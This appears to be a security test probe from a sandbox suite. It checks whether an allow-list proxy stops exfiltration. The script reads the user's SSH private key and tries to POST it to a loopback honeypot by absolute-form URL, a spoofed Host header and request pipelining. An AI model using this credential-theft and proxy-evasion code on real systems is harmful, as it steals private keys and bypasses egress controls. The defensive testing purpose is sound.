# family: injection
# tries: through stockade-proxy, absolute-form POSTs of the SSH key and a PWNED marker to the unlisted honeypot, to the allowed index with a Host header naming the honeypot, and pipelined behind an allowed request on one connection
# source: https://portswigger.net/web-security/host-header
# exfil: yes
# stopped-when: canary-unread, pwned-absent
# attempted-when: marker
# Stopped: not_allowed for the unlisted target; bad_request for the Host
# mismatch (host_mismatch); the pipelined second request is judged on its
# own and refused. No key reaches the honeypot or the index.
import os
import socket
import sys

if len(sys.argv) < 9:
    sys.exit("usage: TOKEN HOME HOSTTMP TCP UDP UNIX DECOY USERFILES")
token, home, port = sys.argv[1], sys.argv[2], int(sys.argv[4])
# The SSH key where the jail lets it be read; with it, always, the proof
# of delivery "PWNED <token>": the token stands for what a job has by
# design (its workspace), which an allow-list must keep in just as well.
try:
    with open(os.path.join(home, ".ssh/id_ed25519"), "rb") as f:
        loot = f.read()
except OSError as e:
    print(f"key: {e.strerror}")
    loot = b""
loot += f"\nPWNED {token}\n".encode()
# The proxy the jail names (HTTP_PROXY=http://127.0.0.1:3128), if any.
proxy = os.environ.get("HTTP_PROXY", "")
pxhost, _, pxport = proxy.removeprefix("http://").rstrip("/").rpartition(":")
print(f"ATTEMPTED {token}", file=sys.stderr, flush=True)


def talk(data, host=pxhost, port=int(pxport or 0), wait=2.0):
    """Sends DATA to HOST:PORT; what came back (at most 4 KiB) or the error."""
    try:
        with socket.create_connection((host, port), timeout=wait) as s:
            s.sendall(data)
            return s.recv(4096)
    except OSError as e:
        return repr(e).encode()


if not proxy:
    # No proxy here (a column without the allow-list): the same bytes
    # straight to the host's loopback, which only isolation stops.
    print("no proxy:", talk(loot, "127.0.0.1", port)[:60])
    sys.exit(0)
ok = f"http://127.0.0.2:{port}".encode()
bad = f"127.0.0.1:{port}".encode()
def post(target, host):
    return (b"POST " + target + b"/upload HTTP/1.1\r\nHost: " + host +
            b"\r\nContent-Length: " + str(len(loot)).encode() + b"\r\n\r\n" + loot)
print("unlisted", talk(post(b"http://" + bad, bad))[:40])
print("host mismatch", talk(post(ok, bad))[:40])
get = b"GET " + ok + b"/left-pad HTTP/1.1\r\nHost: " + ok[7:] + b"\r\n\r\n"
print("pipelined", talk(get + post(b"http://" + bad, bad))[:40])
